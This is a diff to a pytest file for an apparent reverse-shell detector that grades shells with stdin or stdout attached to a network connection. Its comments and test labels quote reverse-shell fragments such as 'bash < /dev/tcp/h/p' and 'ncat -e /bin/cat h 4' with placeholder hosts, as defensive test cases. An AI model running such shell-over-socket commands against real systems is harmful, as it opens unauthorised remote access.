@@ -95,6 +95,31 @@ def test_directions_split_over_processes_are_joined() -> None:
     _one(found, Severity.CRITICAL, "bash")
 
 
+@pytest.mark.parametrize(
+    ("fds", "severity", "signature"),
+    [
+        ("0", Severity.HIGH, "connected socket on a shell's stdin from its exec"),  # bash < /dev/tcp/h/p
+        ("1", Severity.MEDIUM, "connected socket on a shell's stdout from its exec"),  # sh script > /dev/tcp/h/p
+    ],
+)
+def test_a_shell_started_with_one_direction_on_a_connection(fds: str, severity: Severity, signature: str) -> None:
+    """A shell exec'd reading its commands from a connection is high; writing its output to one, medium."""
+    found = _run([(("/usr/bin/bash", ["bash"]), [stdio_event(fds, how="exec")])])
+    assert _one(found, severity, "bash")["signature"] == signature
+
+
+def test_a_connection_is_raised_again_only_when_it_gets_worse() -> None:
+    """bash < /dev/tcp (high), then the same shell puts the connection on its stdout too: critical; then no more."""
+    found = _run(
+        [
+            (("/usr/bin/bash", ["bash"]), [stdio_event("0", how="exec")]),
+            (None, [stdio_event("01", fd=1), stdio_event("012", fd=2)]),
+            (("/usr/bin/id", ["id"]), [stdio_event("012", how="exec", pid=4250)]),
+        ]
+    )
+    assert [f.level for f in found] == [Severity.HIGH, Severity.CRITICAL]
+
+
 def test_a_program_started_on_the_connection_is_high() -> None:
     """A program that is no shell, started with the connection on stdin and stdout (socat ...,nofork), is high."""
     found = _run([(("/usr/local/bin/agent", ["agent"]), [stdio_event("01", how="exec")])])
@@ -106,6 +131,7 @@ def test_a_program_started_on_the_connection_is_high() -> None:
     [
         (BASH, [stdio_event("0", fd=0)], "</dev/tcp/h/22 port check: stdin only"),
         (BASH, [stdio_event("1", fd=1)], "echo > /dev/tcp/h/p: stdout only"),
+        (("/usr/bin/cat", ["cat"]), [stdio_event("0", how="exec")], "cat </dev/tcp/h/80: no shell, stdin only"),
         (("/usr/bin/ncat", ["ncat", "-e", "/bin/cat", "h", "4"]), [stdio_event("012")], "a helper's dups, no exec"),
         (("/usr/sbin/in.telnetd", ["in.telnetd"]), [stdio_event("012", how="exec", inbound=True)], "inetd: accepted"),
         (("/usr/bin/bash", ["bash"]), [stdio_event("012", how="exec", inbound=True)], "systemd Accept=yes shell"),
